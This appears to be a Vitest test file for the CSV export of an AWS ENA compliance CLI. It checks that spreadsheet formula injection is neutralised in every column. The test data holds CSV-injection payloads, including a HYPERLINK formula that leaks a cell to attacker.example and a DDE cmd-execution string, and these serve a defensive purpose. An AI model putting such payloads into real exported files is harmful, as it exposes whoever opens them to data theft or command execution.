import { describe, expect, it } from 'vitest';
import { render } from '../../../src/cli/formats/index.js';
import { documentOf, finding } from './documents.js';

const HEADER = 'rule,accountId,region,resourceType,resourceId,subject,verdict,annotation,reasons,runbook';

function csvOf(...findings: ReturnType<typeof finding>[]) {
  return render(documentOf(findings), 'csv', { colour: false });
}

describe('the csv format', () => {
  it('prints a header and one line per finding, with no trailing newline', () => {
    const csv = csvOf(finding(), finding({ resourceId: 'i-0fedcba9876543210', verdict: 'COMPLIANT', annotation: 'ENA is enabled.', reasons: ['ENA_ENABLED'], runbook: undefined }));

    expect(csv).toBe(
      [
        HEADER,
        'ena-instance-enabled,111111111111,eu-west-1,AWS::EC2::Instance,i-0123456789abcdef0,m5.large,NON_COMPLIANT,enaSupport is false on an instance type that supports ENA.,ENA_DISABLED,EnaGuard-EnableEnaSupport',
        'ena-instance-enabled,111111111111,eu-west-1,AWS::EC2::Instance,i-0fedcba9876543210,m5.large,COMPLIANT,ENA is enabled.,ENA_ENABLED,',
      ].join('\n'),
    );
  });

  it('prints only the header when there are no findings', () => {
    expect(csvOf()).toBe(HEADER);
  });

  // OWASP "CSV Injection": a cell starting with = + - @ tab or CR is prefixed with a single quote.
  it.each([
    ['a formula', '=HYPERLINK("https://attacker.example/?leak="&A1,"click me")', `"'=HYPERLINK(""https://attacker.example/?leak=""&A1,""click me"")"`],
    ['a function behind @', '@SUM(1+1)*cmd|" /C calc"!A0', `"'@SUM(1+1)*cmd|"" /C calc""!A0"`],
    ['arithmetic starting with -', '-2+3', "'-2+3"],
    ['arithmetic starting with +', '+1+1', "'+1+1"],
    ['a leading tab', '\tstarts with a tab', "'\tstarts with a tab"],
    ['a leading carriage return', '\rstarts with a carriage return', `"'\rstarts with a carriage return"`],
    ['a full-width equals sign', '＝1+1', "'＝1+1"],
    ['a newline inside', 'line one\nline two', '"line one\nline two"'],
    ['quotes and a comma', 'she said "hello", then left', '"she said ""hello"", then left"'],
    ['a minus sign later in the text', 'costs 2-3 minutes', 'costs 2-3 minutes'],
  ])('neutralises %s in an annotation', (_name, annotation, cell) => {
    const csv = csvOf(finding({ annotation }));

    expect(csv).toBe(`${HEADER}\nena-instance-enabled,111111111111,eu-west-1,AWS::EC2::Instance,i-0123456789abcdef0,m5.large,NON_COMPLIANT,${cell},ENA_DISABLED,EnaGuard-EnableEnaSupport`);
  });

  it('neutralises every column, not only the annotation', () => {
    const csv = csvOf(finding({ resourceId: '=cmd', subject: '@x', reasons: ['-1', 'B'], runbook: '+runbook' }));

    expect(csv.split('\n')[1]).toBe("ena-instance-enabled,111111111111,eu-west-1,AWS::EC2::Instance,'=cmd,'@x,NON_COMPLIANT,enaSupport is false on an instance type that supports ENA.,'-1 B,'+runbook");
  });
});
